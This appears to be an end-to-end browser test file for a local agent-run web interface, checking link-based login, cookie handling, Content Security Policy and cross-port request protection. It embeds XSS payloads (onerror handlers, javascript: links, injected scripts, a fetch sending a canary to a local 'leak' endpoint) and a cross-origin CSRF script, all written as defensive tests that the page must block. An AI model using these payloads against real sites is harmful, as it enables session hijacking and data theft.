// A real browser at the door: it is let in by its link, it keeps nothing that a script could read, the policy stops what a
// library or a stranger would do, and a page of another port gets nothing done with its cookie.

import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import type { Browser, Page } from "playwright-core";
import { afterAll, afterEach, beforeAll, beforeEach, expect, it, vi } from "vitest";
import { killLeftovers, startTutti, tutti, type Started } from "../e2e/support/cli.ts";
import { finish, makeProject, scenarioOf, ticket, turn, write, type Project } from "../e2e/support/project.ts";
import { describeNeeding } from "../support/needs.ts";
import { launchBrowser, openPage } from "./support/browser.ts";

/** What markup out of a model's text could try, were it ever to become markup. */
const hostile = `(async () => {
  const seen = [];
  document.addEventListener("securitypolicyviolation", (event) => seen.push(event.effectiveDirective));
  const put = (html) => {
    const place = document.createElement("div");
    place.innerHTML = html;
    document.body.append(place);
  };
  put('<img src="http://127.0.0.1:9/x?q=CANARY" onerror="window.__pwn = 1">');
  put('<a id="js" href="javascript:window.__pwn=1">x</a><form id="f" action="http://127.0.0.1:9/"></form>');
  put('<iframe srcdoc="<script>parent.__pwn=1</script>"></iframe><p style="color:red">x</p>');
  put("<link rel=stylesheet href=http://127.0.0.1:9/a.css><style>p{background:url(http://127.0.0.1:9/b)}</style>");
  document.querySelector("#js").click();
  document.querySelector("#f").submit();
  const script = document.createElement("script");
  script.textContent = "window.__pwn = 1";
  document.body.append(script);
  await fetch("http://127.0.0.1:9/leak").catch(() => {});
  await new Promise((resolve) => setTimeout(resolve, 500));
  return { seen: [...new Set(seen)], pwn: "__pwn" in window };
})()`;

/** What a page of another port tries, with the cookie that goes along. */
const reach = `async (base) => {
  const abort = JSON.stringify({ type: "abort", reason: "strange" });
  const credentials = "include";
  const posts = [
    { body: abort, mode: "no-cors" },
    { body: abort, headers: { "content-type": "application/json" } },
    { body: new URLSearchParams({ type: "abort" }), mode: "no-cors" },
  ];
  const got = [];
  const read = async (url, init) => {
    const text = await fetch(url, { ...init, credentials }).then((response) => response.text(), () => "");
    if (text !== "") got.push(text);
  };
  for (const post of posts) await read(base + "/commands", { ...post, method: "POST" });
  await read(base, {});
  await read(base, { mode: "no-cors" });
  const heard = await new Promise((resolve) => {
    const source = new EventSource(base + "/stream", { withCredentials: true });
    source.addEventListener("records", () => resolve(true));
    source.addEventListener("error", () => resolve(false));
  });
  return { got, heard };
}`;

describeNeeding("chromium", "a browser at the door", () => {
  let browser: Browser;
  let project: Project;
  let running: Started;
  let strange: Server | undefined;
  beforeAll(async () => {
    browser = await launchBrowser();
  });
  afterAll(() => browser.close());

  const at = (): readonly string[] => ["--repo", project.repo];
  const link = async (): Promise<URL> => new URL((await tutti(["link", ...at()], project)).stdout.trim());

  beforeEach(async () => {
    project = makeProject();
    const scenario = project.write("scenario.json", scenarioOf({ A: [turn(write("a", "a")), turn(finish())] }));
    const tickets = project.write("tickets.json", [ticket("A")]);
    const how = ["--model", "scripted/one", "--trust", "ask", "--no-sandbox", "--attended", "--json"];
    running = startTutti(["run", tickets, ...at(), "--scenario", scenario, ...how], project);
    await running.seen(/"type":"approval.requested"/);
  });
  afterEach(async () => {
    strange?.close();
    strange = undefined;
    killLeftovers();
    await running.done;
    project.remove();
  });

  /** Through the link to the run's page, once it shows the run. */
  const enter = async (page: Page, address: URL): Promise<void> => {
    await page.goto(address.href);
    await page.getByRole("heading").first().waitFor();
  };

  it("PAGE49 the document draws the page's frame itself, in the system's colours, until the page has drawn its own", async () => {
    for (const { scheme, paper } of [
      { scheme: "light", paper: "rgb(244, 245, 248)" },
      { scheme: "dark", paper: "rgb(10, 12, 16)" },
    ] as const) {
      const { page, complaints } = await openPage(browser);
      await page.emulateMedia({ colorScheme: scheme });
      const held: Array<() => void> = [];
      await page.route("**/assets/index-*.js", async (route) => {
        await new Promise<void>((resolve) => held.push(resolve));
        await route.continue();
      });
      await page.goto((await link()).href, { waitUntil: "commit" });
      const opening = page.getByText("Opening", { exact: true });
      await opening.waitFor();
      expect(await page.evaluate("getComputedStyle(document.body).backgroundColor")).toBe(paper);
      for (const release of held) release();
      await page.getByRole("option").first().waitFor();
      expect(await opening.isVisible()).toBe(false);
      expect(await page.evaluate("getComputedStyle(document.body).backgroundColor")).toBe(paper);
      expect(complaints).toEqual([]);
      await page.context().close();
    }
  });

  it("PAGE53 PAGE42 the board waits for nothing that it does without; all of it comes once the board is painted", async () => {
    const { page, complaints } = await openPage(browser);
    const later = ["timeline", "evolve", "held-note", "notice-note", "narrow-menu"];
    const asked: string[] = [];
    const held: Array<() => void> = [];
    await page.route(new RegExp(`/assets/(?:${later.join("|")})-`), async (route) => {
      asked.push(new URL(route.request().url()).pathname);
      await new Promise<void>((resolve) => held.push(resolve));
      await route.continue();
    });
    const address = await link();
    await page.goto(address.href);
    await page.getByRole("option").first().waitFor();
    await vi.waitUntil(() => later.every((name) => asked.some((path) => path.includes(`/${name}-`))), 10_000);
    for (const release of held) release();
    await page.getByRole("slider", { name: "Event shown" }).waitFor();
    expect(complaints).toEqual([]);
    await page.context().close();
  });

  it("DOOR1 DOOR5 PAGE42 is let in by the link, which then is gone from its address; no screen meets the policy", async () => {
    const { page, complaints } = await openPage(browser);
    const address = await link();
    await enter(page, address);
    await page.waitForFunction("!location.href.includes('code=')");
    const run = address.pathname;
    for (const path of [run, `${run}/agents`, `${run}/tickets/A`, `${run}/inbox`, `${run}/spend`, "/inbox", "/"]) {
      await page.goto(`${address.origin}${path}`);
      await page.getByRole("heading").first().waitFor({ state: "attached" });
      await page.waitForTimeout(300);
    }
    expect(complaints).toEqual([]);
    const streams: string[] = [];
    page.on("request", (request) => {
      if (request.url().includes("/api/stream")) streams.push(new URL(request.url()).search);
    });
    await page.goto(`${address.origin}${run}`);
    await page.getByRole("option").first().waitFor();
    expect(streams).toEqual([`?run=${run.split("/").at(-1)}`]);
    expect(await page.evaluate("document.cookie")).toBe("");
    const stored = await page.evaluate<string>("JSON.stringify([{ ...localStorage }, { ...sessionStorage }])");
    expect(stored).not.toContain(address.hash.replace("#code=", ""));
    await page.context().close();
  });

  it("DOOR5 A-53 A-54 what a stranger's text would make the page do, the policy stops", async () => {
    const { page } = await openPage(browser);
    const address = await link();
    await enter(page, address);
    const stopped = await page.evaluate<{ seen: string[]; pwn: boolean }>(hostile);
    expect(stopped.pwn).toBe(false);
    expect(new URL(page.url()).origin).toBe(address.origin);
    for (const directive of ["connect-src", "img-src", "script-src-elem", "style-src-attr", "style-src-elem"])
      expect(stopped.seen).toContain(directive);
    await page.context().close();
  });

  it("DOOR2 A-44 A-47 a page of another port of this machine gets nothing done, and sees nothing, with the cookie", async () => {
    const { page } = await openPage(browser);
    const address = await link();
    await enter(page, address);
    const api = `${address.origin}/api${address.pathname}`;
    const sent: string[] = [];
    const server = createServer((request, response) => {
      sent.push(request.headers.cookie ?? "");
      response.setHeader("content-type", "text/html").end("<!doctype html><title>strange</title>");
    });
    strange = server;
    await new Promise<void>((done) => server.listen(0, "127.0.0.1", done));
    const { port } = server.address() as AddressInfo;
    await page.goto(`http://127.0.0.1:${port}/`);
    const seen = await page.evaluate(`(${reach})(${JSON.stringify(api)})`);
    expect(seen).toEqual({ got: [], heard: false });
    // Cookies know no ports: it is sent to the stranger, and that is why it counts for nothing alone (ADR 14).
    expect(sent[0]).toContain("tutti_");
    const { stdout } = await tutti(["status", ...at(), "--json"], project);
    expect((JSON.parse(stdout) as { board: { phase: string } }).board.phase).toBe("running");
    await page.goto(address.origin);
    await page.getByRole("heading").first().waitFor();
    await page.context().close();
  });

  it("DOOR1 a link that was used says so to the next browser", async () => {
    const address = await link();
    const [one, two] = [await openPage(browser), await openPage(browser)];
    await enter(one.page, address);
    await one.page.waitForFunction("!location.href.includes('code=')");
    await two.page.goto(address.href);
    await two.page.getByText("tutti link").first().waitFor();
    await Promise.all([one.page.context().close(), two.page.context().close()]);
  });
});
